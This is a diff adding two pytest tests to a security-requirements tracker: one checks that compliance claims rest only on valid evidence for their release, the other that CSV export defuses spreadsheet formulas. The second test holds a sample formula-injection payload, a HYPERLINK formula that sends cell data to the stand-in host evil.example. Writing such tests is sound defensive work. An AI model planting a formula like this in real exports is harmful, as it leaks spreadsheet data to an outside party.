@@ -242,3 +242,55 @@ def test_claims_doors(app: Flask, api: ApiClient, session: Session, tmp_path: Pa
     assert "claims changed" in client.get(f"/releases/{later.id}/claims/compare?other={release.id}").get_data(
         as_text=True
     )
+
+
+def test_claims_rest_only_on_evidence_for_their_release_that_is_still_valid(session: Session) -> None:
+    from datetime import date, timedelta
+
+    from sdl_tracker.evidence.services import revise_evidence
+
+    product = make_product(session, target_sl=LEVEL_1)
+    old, new = make_release(session, product, "1.0"), make_release(session, product, "2.0")
+    officer = member(session, product, "security_officer")
+    only_old = create_evidence(
+        session,
+        OPERATOR,
+        product_id=product.id,
+        kind="other",
+        data=EvidenceInput(
+            title="1.0 test",
+            requirements=["SVV-1"],
+            release_versions=["1.0"],
+            files=[Upload("r.txt", "text/plain", io.BytesIO(b"old"))],
+        ),
+    )
+    review_evidence(session, officer, only_old.id, accept=True)
+    with pytest.raises(Invalid) as caught:
+        set_claim(session, officer, new.id, "CR 5.1", ClaimInput("implemented", evidence_ids=[only_old.id]))
+    assert "does not cover release 2.0" in caught.value.one_line()
+    set_claim(session, officer, old.id, "CR 5.1", ClaimInput("implemented", evidence_ids=[only_old.id]))
+    assert vector_report(session, officer, product.id, old.id).achieved["FR5"] >= 1
+    revise_evidence(
+        session,
+        OPERATOR,
+        only_old.id,
+        data=EvidenceInput(
+            review_due=date.today() - timedelta(days=1), effective_date=date.today() - timedelta(days=10)
+        ),
+    )
+    review_evidence(session, officer, only_old.id, accept=True)
+    assert vector_report(session, officer, product.id, old.id).achieved["FR5"] == 0  # past its review date
+
+
+def test_csv_export_defuses_formulas_and_round_trips(session: Session) -> None:
+    from sdl_tracker.claims.sheets import rows_to_csv
+
+    product = make_product(session)
+    release = make_release(session, product, "1.0")
+    officer = member(session, product, "security_officer")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    set_claim(session, officer, release.id, "CR 1.1", ClaimInput("implemented", notes=formula))
+    text = rows_to_csv(list_claims(session, officer, release.id))
+    assert "'=HYPERLINK" in text and ',=HYPERLINK' not in text and '"=HYPERLINK' not in text
+    rows = parse_sheet(text.encode(), "claims.csv")
+    assert rows[0][2].notes == formula
